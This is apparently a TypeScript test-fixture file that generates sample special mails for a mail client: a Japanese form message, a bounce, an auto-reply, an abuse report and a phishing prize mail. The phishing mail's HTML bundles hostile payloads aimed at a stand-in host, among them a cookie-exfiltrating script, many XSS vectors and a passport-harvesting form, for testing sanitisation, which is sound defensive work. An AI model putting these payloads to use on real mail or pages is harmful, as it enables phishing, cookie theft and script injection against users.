import { formSender } from './write-form.ts'
import { multipart, office, mailDate, textPart, writeMail } from './write-mail.ts'

export type SpecialLetter = {
  ago: number
  kind: 'unrecognized-form' | 'direct' | 'bounce' | 'automatic' | 'complaint'
  /** Name, or address where there is no name. */
  from: string
  subject: string
  write(date: Date): Uint8Array
}

/** What else arrives at a counter: a form nobody can read, a hostile mail, and mails of machines. */
export const specialLetters: readonly SpecialLetter[] = [
  {
    ago: 1700,
    kind: 'unrecognized-form',
    from: 'お問い合わせフォーム',
    subject: '【お問い合わせ】桜祭りのボランティアについて',
    write: (date) =>
      writeMail({
        from: { name: 'お問い合わせフォーム', address: formSender },
        subject: '【お問い合わせ】桜祭りのボランティアについて',
        date,
        messageId: `form-ja-broken.${date.getTime()}@www.consulate.example`,
        text: `ウェブサイトのお問い合わせフォームから送信されました。

おなまえ（ニックネーム可）　さくら
ご連絡先　（記入なし）
ひとこと　桜祭りのボランティアに参加したいです。高校生でも申し込めますか。
友だちも二人、一緒に手伝いたいと言っています。`,
      }),
  },
  {
    ago: 4550,
    kind: 'direct',
    from: 'Lucky Travel Prize Center',
    subject: 'Your free flight to Tokyo is waiting!',
    write: (date) =>
      writeMail({
        from: { name: 'Lucky Travel Prize Center', address: 'prize-center@lucky-travel.example' },
        subject: 'Your free flight to Tokyo is waiting!',
        date,
        messageId: `win.${date.getTime()}@lucky-travel.example`,
        text: 'You have been selected for a free flight to Tokyo. Open the HTML version of this message to claim it. The offer ends tonight, and only passport holders may take part.',
        html: hostileHtml,
      }),
  },
  {
    ago: 2700,
    kind: 'bounce',
    from: 'Mail Delivery System',
    subject: 'Undelivered Mail Returned to Sender',
    write: (date) =>
      report(date, 'mx.provider.example', 'delivery-status', 'Undelivered Mail Returned to Sender', [
        textPart(
          'text/plain',
          `This is the mail system at host mx.provider.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

<taro.kitagawa@closed-mailbox.example>: host mail.closed-mailbox.example said: 550 5.1.1
    <taro.kitagawa@closed-mailbox.example>: Recipient address rejected: User unknown
    (in reply to RCPT TO command)`,
        ),
        textPart(
          'message/delivery-status',
          `Reporting-MTA: dns; mx.provider.example

Final-Recipient: rfc822; taro.kitagawa@closed-mailbox.example
Original-Recipient: rfc822;taro.kitagawa@closed-mailbox.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <taro.kitagawa@closed-mailbox.example>:
    Recipient address rejected: User unknown`,
        ),
        returned(
          'taro.kitagawa@closed-mailbox.example',
          'reply-2029@consulate.example',
          'Re: Opening hours of the gallery',
          date,
        ),
      ]),
  },
  {
    ago: 340,
    kind: 'automatic',
    from: 'Karin Bergstrom',
    subject: 'Automatic reply: Invitation to the film evening',
    write: (date) =>
      writeMail({
        from: { name: 'Karin Bergstrom', address: 'k.bergstrom@nordic-house.example' },
        subject: 'Automatic reply: Invitation to the film evening',
        date,
        messageId: `auto.${date.getTime()}@nordic-house.example`,
        inReplyTo: 'reply-2036@consulate.example',
        headers: ['Auto-Submitted: auto-replied', 'X-Auto-Response-Suppress: All', 'Return-Path: <>'],
        text: 'Thank you for your message. I am out of the office until Monday and will read my mail then. For urgent matters please write to program@nordic-house.example.',
      }),
  },
  {
    ago: 11_700,
    kind: 'complaint',
    from: 'feedback@bigmail.example',
    subject: 'Abuse report',
    write: (date) =>
      report(date, 'bigmail.example', 'feedback-report', 'Abuse report', [
        textPart('text/plain', 'This is an abuse report for a message that one of our users has marked as unwanted.'),
        textPart(
          'message/feedback-report',
          `Feedback-Type: abuse
User-Agent: BigMail-Feedback/1.4
Version: 1
Original-Mail-From: <${office}>
Original-Rcpt-To: <reader-4711@bigmail.example>`,
        ),
        returned('reader-4711@bigmail.example', 'issue-41.4711@consulate.example', 'Japanifornia, No. 41', date),
      ]),
  },
]

/** A report of a mail system, as its parts say it. */
export function report(
  date: Date,
  domain: string,
  type: 'delivery-status' | 'feedback-report',
  subject: string,
  parts: Buffer[],
): Uint8Array {
  const sender = type === 'delivery-status' ? `Mail Delivery System <MAILER-DAEMON@${domain}>` : `<feedback@${domain}>`
  const header = [
    'Return-Path: <>',
    `From: ${sender}`,
    `To: <${office}>`,
    `Subject: ${subject}`,
    `Date: ${mailDate(date)}`,
    `Message-ID: <${type}.${date.getTime()}@${domain}>`,
    'MIME-Version: 1.0',
    '',
  ]
  return Buffer.concat([
    Buffer.from(header.join('\r\n')),
    multipart(`report; report-type=${type}`, type.replace('-', ''), parts),
  ])
}

/** The head of the mail that a report is about. */
export function returned(to: string, messageId: string, subject: string, date: Date): Buffer {
  return Buffer.from(
    `Content-Type: text/rfc822-headers\r\n\r\nFrom: <${office}>\r\nTo: <${to}>\r\nSubject: ${subject}\r\nMessage-ID: <${messageId}>\r\nDate: ${mailDate(new Date(date.getTime() - 240_000))}\r\n`,
  )
}

/** Everything a letter must not do; its hosts exist nowhere. */
const hostileHtml = `<!doctype html><html><head><title>Prize</title>
<meta http-equiv="refresh" content="0;url=https://lucky-travel.example/claim"><base href="https://lucky-travel.example/" target="_top">
<link rel="stylesheet" href="style.css"><link rel="prefetch" href="next"><style>@import url(https://lucky-travel.example/a.css); body { background: url(https://lucky-travel.example/bg.png) }</style>
<script>location = 'https://lucky-travel.example/?' + document.cookie</script></head>
<body onload="alert('prize')" background="https://lucky-travel.example/body.png">
<div style="position:fixed;inset:0;z-index:9999;background:#fff url(https://lucky-travel.example/cover.png)"></div>
<h1 style="color:#b3261e">Congratulations!</h1>
<p>You have been selected for a <b>free flight to Tokyo</b>. The offer ends tonight.</p>
<img src="https://lucky-travel.example/plane.jpg" srcset="https://lucky-travel.example/plane@2x.jpg 2x" alt="An airplane above the clouds" onerror="alert(1)">
<p><a href="javascript:alert(document.domain)" onclick="alert(2)">Claim your flight</a> or <a href="https://consulate.example@lucky-travel.example/login" ping="https://lucky-travel.example/ping">sign in with your passport number</a>.</p>
<form action="https://lucky-travel.example/steal" method="post"><label>Passport number <input name="passport"></label><button formaction="https://lucky-travel.example/steal2">Send</button></form>
<svg onload="alert(3)"><script>alert(4)</script><image href="https://lucky-travel.example/i.svg"/></svg><math><mtext><style><!--</style><img src=x onerror=alert(5)></math>
<iframe src="https://lucky-travel.example/frame"></iframe><object data="https://lucky-travel.example/o.swf"></object><video src="https://lucky-travel.example/v.mp4" autoplay></video>
<img src="https://lucky-travel.example/pixel.gif?id=kouhou" width="1" height="1" alt="">
</body></html>`
